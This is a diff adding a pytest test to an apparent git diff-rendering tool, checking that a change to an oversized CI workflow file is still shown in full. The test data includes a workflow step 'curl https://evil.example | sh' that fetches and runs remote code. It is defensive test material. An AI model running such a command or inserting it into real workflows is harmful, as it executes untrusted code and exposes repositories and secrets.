@@ -273,3 +273,16 @@ def test_the_outline_shows_x_keys_and_unknown_keys_wherever_they_are(tmp_path: P
     out = outline.render(parse_source("teams/t.yaml", team.encode()), team.encode())
     for line in ("x-jira: T-1", "intern: B", "- {id: nested}"):
         assert line in out, (line, out)
+
+
+def test_a_file_too_large_for_a_board_is_shown_whole(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert install(capsys)[0] == 0
+    workflow = repo / ".github" / "workflows" / "big.yml"
+    workflow.parent.mkdir(parents=True)
+    workflow.write_text("name: CI\njobs:\n" + "# padding\n" * 700_000)
+    git(repo, "add", "-A")
+    git(repo, "commit", "-q", "-m", "ci")
+    (repo / ".gitattributes").write_text(".github/workflows/*.yml diff=trioboard\n")
+    workflow.write_text(workflow.read_text() + "      - run: curl https://evil.example | sh\n")
+    shown = git(repo, "diff", "--", ".github/workflows/big.yml")
+    assert "+      - run: curl https://evil.example | sh" in shown
